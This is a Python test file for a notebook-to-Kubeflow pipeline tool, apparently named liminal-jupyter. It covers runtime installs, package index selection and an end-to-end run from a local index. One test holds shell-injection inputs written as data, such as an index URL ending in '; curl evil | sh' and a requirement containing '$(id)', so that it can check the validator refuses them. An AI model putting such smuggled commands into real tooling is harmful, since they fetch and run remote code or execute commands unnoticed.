"""A stock image works: with no image of ours named, a KFP step installs liminal-jupyter
(this exact version, without its dependencies), the in-step runtime's dependencies, kfp
and the notebook's liminal.requirements when it starts, from a configurable index.

The end-to-end test builds our wheel, serves it from a package index on 127.0.0.1 and
runs the compiled pipeline with kfp.local's `use_venv=True`: each step in a fresh virtual
environment with nothing installed, as a pod of `python:3.11` would be. The wheel comes
from the 127.0.0.1 index (liminal-jupyter is not on PyPI, and the test checks the wheel
was fetched from it); the runtime's dependencies from PyPI ($PIP_INDEX_URL if set) and
this machine's pip configuration, which the venv's pip reads too.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import kfp
import pytest
import yaml

from liminal_jupyter.cli import main
from liminal_jupyter.engines.kfp.compile import compile_pipeline
from liminal_jupyter.engines.runtime_install import liminal_requirement, runtime_requirements
from liminal_jupyter.notebook.parse import parse_notebook
from liminal_jupyter.runs.store import RunStore
from tests.conftest import code, notebook_json
from tests.engines.kfp.kfp_local_run import run_kfp_local

PYPI = "https://pypi.org/simple"


def write_notebook(folder: Path, settings: dict | None = None) -> Path:
    """One step that reads a CSV beside the notebook (the workspace travels too)."""
    (folder / "data").mkdir(parents=True, exist_ok=True)
    (folder / "data" / "values.csv").write_text("value\n1\n2\n3\n4\n", encoding="utf-8")
    cells = [code("scale = 2", "parameters"),
             code("import pandas as pd\nvalues = pd.read_csv('data/values.csv')\n"
                  "total = float(values['value'].sum() * scale)", "step:total"),
             code("total", "metrics")]
    path = folder / "stock.ipynb"
    metadata = {"liminal": settings} if settings else None
    path.write_text(json.dumps(notebook_json(cells, metadata)), encoding="utf-8")
    return path


def executors(yaml_path: Path) -> dict[str, str]:
    """executor name -> its container's command and args as one text."""
    spec = next(yaml.safe_load_all(yaml_path.read_text()))
    return {name: " ".join(e["container"]["command"] + e["container"].get("args", []))
            for name, e in spec["deploymentSpec"]["executors"].items()}


def compiled(tmp_path: Path, *flags: str, settings: dict | None = None) -> dict[str, str]:
    notebook = write_notebook(tmp_path / "nb", settings)
    out = tmp_path / "out.yaml"
    assert main(["compile", str(notebook), "-o", str(out), *flags]) == 0
    return executors(out)


def test_with_no_image_a_step_installs_this_version_its_runtime_kfp_and_requirements(
        tmp_path):
    (command,) = compiled(tmp_path, settings={"requirements": ["scikit-learn>=1.3"]}).values()
    assert "pip install" in command
    for requirement in [*runtime_requirements(), "scikit-learn>=1.3", f"kfp=={kfp.__version__}"]:
        assert f"'{requirement}'" in command, requirement
    # liminal-jupyter itself: the exact version, without the whole package's dependencies
    # (jupyterlab, mlflow... are not used in a step), unless the image already has it.
    assert f"'--no-deps', '{liminal_requirement()}'" in command
    assert "find_spec('liminal_jupyter') is None" in command
    assert "mlflow" not in command and "jupyterlab" not in command


def test_an_image_of_our_own_installs_nothing_and_says_what_to_do_if_it_lacks_liminal(
        tmp_path):
    (command,) = compiled(tmp_path, "--image", "registry.example/ml:2").values()
    assert "pip install" not in command and "--no-deps" not in command
    assert "has no liminal-jupyter: build one with `liminal-nb image NOTEBOOK`" in command


@pytest.mark.parametrize(("flags", "settings", "installs"), [
    (["--install-runtime", "--image", "registry.example/ml:2"], None, True),
    (["--no-install-runtime"], None, False),
    ([], {"install_runtime": False}, False),
    (["--image", "registry.example/ml:2"], {"install_runtime": True}, True),
    (["--no-install-runtime"], {"install_runtime": True}, False),  # the flag wins
    (["--image", "docker.io/library/python:3.12-slim"], None, True),  # a stock image
], ids=["flag-on", "flag-off", "setting-off", "setting-on", "flag-over-setting", "stock"])
def test_install_runtime_flag_and_setting_decide_for_any_image(tmp_path, flags, settings,
                                                                installs):
    (command,) = compiled(tmp_path, *flags, settings=settings).values()
    assert ("--no-deps" in command) is installs


def test_index_urls_come_from_the_flag_the_setting_or_the_environment(tmp_path, monkeypatch):
    (command,) = compiled(tmp_path, "--index-url", "http://127.0.0.1:9/simple",
                          "--index-url", "https://mirror.example/simple").values()
    assert "--index-url http://127.0.0.1:9/simple --extra-index-url " \
           "https://mirror.example/simple" in command
    # liminal-jupyter's own install uses the same indexes
    assert "'--index-url', 'http://127.0.0.1:9/simple', '--extra-index-url'" in command
    # kfp would mark every index --trusted-host, turning off TLS checks: not asked for
    assert "--trusted-host" not in command

    (command,) = compiled(tmp_path, settings={"index_url": "https://setting.example/simple"}
                          ).values()
    assert "--index-url https://setting.example/simple" in command
    monkeypatch.setenv("LIMINAL_INDEX_URL", "https://env.example/simple")
    (command,) = compiled(tmp_path).values()
    assert "--index-url https://env.example/simple" in command


@pytest.mark.parametrize(("flags", "settings", "said"), [
    (["--index-url", "http://x/simple; curl evil | sh"], None,
     "--index-url: 'http://x/simple; curl evil | sh' is not a package index URL"),
    ([], {"index_url": ["https://ok.example/simple", "ftp://old.example"]},
     "the liminal.index_url setting: 'ftp://old.example' is not a package index URL"),
    ([], {"requirements": ["pandas; python_version<'3.12' and '$(id)'"]},
     "mixes a single quote with $"),
], ids=["shell-in-flag", "ftp-in-setting", "requirement-unquotable"])
def test_an_index_or_requirement_the_steps_shell_would_run_is_refused(tmp_path, capsys, flags,
                                                                      settings, said):
    notebook = write_notebook(tmp_path / "nb", settings)
    assert main(["compile", str(notebook), "-o", str(tmp_path / "o.yaml"), *flags]) != 0
    err = capsys.readouterr().err
    assert said in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "o.yaml").exists()


def test_the_kfp_local_engine_runs_in_this_interpreter_and_installs_nothing(tmp_path):
    from liminal_jupyter.engines.kfp.local_backend import run_kfp_local as run_engine

    notebook = write_notebook(tmp_path / "nb")
    run_id, status, metrics = run_engine(notebook, {"scale": 3})
    assert status == "succeeded" and metrics == {"total": 30.0}
    compiled_yaml = RunStore(notebook.parent / ".liminal").run_dir(run_id) / "pipeline.yaml"
    assert "pip install" not in "".join(executors(compiled_yaml).values())


# -- the stock image, for real -----------------------------------------------------------


def test_a_stock_python_step_installs_our_wheel_from_a_local_index_and_runs(
        tmp_path, local_index, monkeypatch):
    server, index = local_index
    # pip's byte-compiling of every file it installs (a third of the install's CPU here)
    # only speeds up a first import; the step's imports compile what they use.
    monkeypatch.setenv("PIP_COMPILE", "false")
    notebook = write_notebook(tmp_path / "nb")
    yaml_path = tmp_path / "stock.yaml"
    # Our index first; the runtime's dependencies from the index pip uses here.
    compile_pipeline(parse_notebook(notebook), yaml_path,
                     index_urls=[index, os.environ.get("PIP_INDEX_URL", PYPI)])
    outputs = run_kfp_local(yaml_path, tmp_path / "root", {"scale": 5}, use_venv=True,
                            timeout=900)
    assert outputs == {"total_metrics": {"total": 50.0}}
    # The step's venv got liminal-jupyter from our index, not from this interpreter.
    assert any(path.endswith(".whl") for path in server.requested), server.requested
